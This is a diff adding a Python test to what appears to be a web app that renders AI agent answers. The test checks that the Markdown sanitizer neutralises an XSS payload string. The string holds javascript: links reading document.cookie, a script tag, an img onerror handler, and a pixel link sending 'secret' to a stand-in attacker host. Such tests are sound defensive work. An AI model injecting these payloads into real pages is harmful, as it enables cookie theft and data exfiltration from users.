@@ -167,3 +167,43 @@ def test_timeline_values_are_text_never_python_reprs(client, personas, agent, wo
     assert "commit <code>commitDraft</code> · docs/guide.md changed since the request" in page
     assert "<b>changes</b> one; two" in page and "<b>n</b> a: 1" in page
     assert "[&#x27;" not in page and "{&#x27;" not in page
+
+
+MALICIOUS_ANSWER = """# Findings
+
+| file | status |
+| --- | --- |
+| docs/guide.md | fixed |
+
+```python
+print("done")
+```
+
+[the guide](https://example.com/guide) · [click](javascript:alert(document.cookie)) ·
+<script>alert(1)</script> <img src=x onerror=alert(1)> ![pixel](https://evil.example/p?d=secret)
+<a href="javascript:alert(2)">raw</a>
+"""
+
+
+def test_the_answer_is_rendered_as_markdown_and_nothing_in_it_runs(
+    client, personas, agent, workspace
+):
+    from runs.answer_markdown import answer_html
+
+    html = str(answer_html(MALICIOUS_ANSWER))
+    assert "<h1>Findings</h1>" in html and "<table>" in html and "<td>fixed</td>" in html
+    assert '<code class="language-python">print("done")' in html
+    assert '<a href="https://example.com/guide" rel="noopener noreferrer">the guide</a>' in html
+    for bad in ("<script", '<a href="javascript', "<img", "evil.example"):
+        assert bad not in html, bad  # no tag runs, no link to javascript:, no image fetched
+    assert "&lt;script&gt;" in html and "[click](javascript:" in html  # shown as text
+    assert answer_html("") is None and answer_html("x" * 200_001) is None
+
+    run = finished_runs(personas, agent, workspace)["completed"]
+    run.model_calls.create(turn=1, model="claude-sonnet-4-6", text=MALICIOUS_ANSWER)
+    client.force_login(personas.operator)
+    page = client.get(reverse("runs:detail", args=[run.pk])).content.decode()
+    assert '<div class="markdown" id="run-answer-rendered"><h1>Findings</h1>' in page
+    assert '<details id="run-answer-source"><summary>Source</summary>' in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # the source, escaped
+    assert "<script>alert(1)" not in page
